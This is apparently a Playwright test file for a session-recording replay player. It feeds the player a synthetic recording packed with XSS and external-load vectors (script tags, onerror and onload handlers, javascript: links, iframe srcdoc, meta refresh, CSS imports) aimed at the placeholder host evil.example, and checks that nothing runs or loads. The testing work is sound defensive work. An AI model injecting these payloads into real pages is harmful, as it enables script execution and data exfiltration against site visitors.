import type { Page } from '@playwright/test';
import { expect, SITE, test } from './setup/studioTest.ts';

const START = 1_764_000_000_000;
const EVIL = 'https://evil.example';
let nextId = 10;

const element = (tagName: string, attributes: object = {}, childNodes: object[] = []) => {
  nextId += 1;
  return { type: 2, id: nextId, tagName, attributes, childNodes };
};
const text = (textContent: string) => {
  nextId += 1;
  return { type: 3, id: nextId, textContent };
};
const run = `document.title = 'hacked'; fetch('${EVIL}/ran')`;

/** What a client could send to make a player run or load something. */
const HOSTILE = [
  element('script', {}, [text(run)]),
  element('script', { src: `${EVIL}/a.js` }),
  element('img', { src: `${EVIL}/picture.png`, onerror: run, onload: run }),
  element('svg', { onload: run }),
  element('a', { href: `javascript:${run}`, id: 'link' }, [text('A link')]),
  element('iframe', { srcdoc: `<script>${run}</script>`, src: `${EVIL}/frame` }),
  element('object', { data: `${EVIL}/object` }),
  element('embed', { src: `${EVIL}/embed` }),
  element('link', { rel: 'stylesheet', href: `${EVIL}/style.css` }),
  element('link', { rel: 'preload', as: 'image', href: `${EVIL}/preload` }),
  element('style', { _cssText: `@import url(${EVIL}/import.css); h1 { background: url(${EVIL}/background) }` }),
  element('meta', { 'http-equiv': 'refresh', content: `0;url=${EVIL}/refresh` }),
  element('video', { src: `${EVIL}/video`, poster: `${EVIL}/poster`, autoplay: '' }),
  element('form', { action: `${EVIL}/form` }, [element('button', { formaction: `${EVIL}/button` })]),
  element(
    'div',
    {},
    Array.from({ length: 5_000 }, () => element('i', { class: 'x'.repeat(100) })),
  ),
];
const EVENTS = [
  { type: 4, timestamp: START, data: { href: `${SITE}/pricing`, width: 800, height: 600 } },
  {
    ...{ type: 2, timestamp: START + 10 },
    data: {
      initialOffset: { top: 0, left: 0 },
      node: {
        ...{ type: 0, id: 1 },
        childNodes: [
          { type: 1, id: 2, name: 'html', publicId: '', systemId: '' },
          {
            ...{ type: 2, id: 3, tagName: 'html', attributes: {} },
            childNodes: [
              { type: 2, id: 4, tagName: 'head', attributes: {}, childNodes: [] },
              {
                ...{ type: 2, id: 5, tagName: 'body', attributes: { onload: run } },
                childNodes: [
                  element('h1', {}, [text('Plans for <b>every</b> team')]),
                  element('img', { src: `${SITE}/images/plan.png`, alt: 'A plan' }),
                  ...HOSTILE,
                ],
              },
            ],
          },
        ],
      },
    },
  },
  ...[1_000, 2_000, 3_000, 4_000].map((at) => ({
    ...{ type: 3, timestamp: START + at },
    data: {
      ...{ source: 0, texts: [], removes: [] },
      attributes: [{ id: 5, attributes: { onclick: run, style: `background: url(${EVIL}/changed)` } }],
      adds: [{ parentId: 5, nextId: null, node: element('img', { src: 'x', onerror: run }) }],
    },
  })),
];

/** Answers of the API for one recording. @returns addresses that were asked beside the studio's */
async function open(page: Page, search = ''): Promise<string[]> {
  const asked: string[] = [];
  await page.route('**/*', (route) => {
    const { origin, href } = new URL(route.request().url());
    if (origin === new URL(page.url() === 'about:blank' ? 'http://127.0.0.1' : page.url()).origin)
      return route.fallback();
    if (!href.startsWith('http://127.0.0.1')) asked.push(href);
    return href.startsWith('http://127.0.0.1') ? route.fallback() : route.abort();
  });
  await page.route('**/api/recordings/1764/parts*', (route) =>
    route.fulfill({ json: { parts: [{ vendor: 'amplitude-replay', events: EVENTS, leftOut: 0 }], nextCursor: null } }),
  );
  const entries = [
    { id: 'c', at: START + 3_000, kind: 'error', title: 'x is undefined' },
    { id: 'b', at: START + 1_000, kind: 'click', title: 'click web: Start free' },
  ].map((entry) => ({ ...entry, payload: {} }));
  await page.route('**/api/visitors/mara*', (route) =>
    route.fulfill({ json: { identities: ['mara'], onlyByAddress: [], entries, nextCursor: null } }),
  );
  await page.goto(`/recordings/1764?visitor=mara${search}`);
  return asked;
}

const recordedPage = (page: Page) => page.frameLocator('iframe[title="Recorded visit"]').frameLocator('iframe');

test('a hostile recording is shown, runs nothing, and loads from the site alone', async ({ page }) => {
  const asked = await open(page);
  await expect(recordedPage(page).getByRole('heading', { name: 'Plans for <b>every</b> team' })).toBeVisible();
  await page.getByRole('button', { name: 'error: x is undefined' }).click();
  await expect(page.getByRole('button', { name: 'Share 3 s' })).toBeVisible();
  const inner = page.frames().find((frame) => frame.parentFrame()?.parentFrame() === page.mainFrame());
  expect(
    await inner?.evaluate(() => document.querySelectorAll('script, object, embed, base, [onload], [onerror]').length),
  ).toBe(0);
  const sandbox = page.frameLocator('iframe[title="Recorded visit"]').locator('iframe').first();
  await expect(sandbox).toHaveAttribute('sandbox', 'allow-same-origin');
  await expect(page).not.toHaveTitle('hacked');
  expect(asked.filter((href) => !href.startsWith(SITE))).toEqual([]);
  expect(asked).toContain(`${SITE}/images/plan.png`);
});

test('a moment is shared by its address, and events lead to theirs', async ({ page }) => {
  await open(page, '&t=2000');
  await expect(page.getByRole('button', { name: 'Share 2 s' })).toBeVisible();
  await expect(page.getByRole('listitem').filter({ hasText: 'click web: Start free' })).toHaveAttribute(
    'data-past',
    'true',
  );
  await page.getByRole('button', { name: 'click: click web: Start free' }).click();
  await page.getByRole('button', { name: /^Share / }).click();
  await expect(page).toHaveURL(/[?&]t=1\d{3}$/);
});
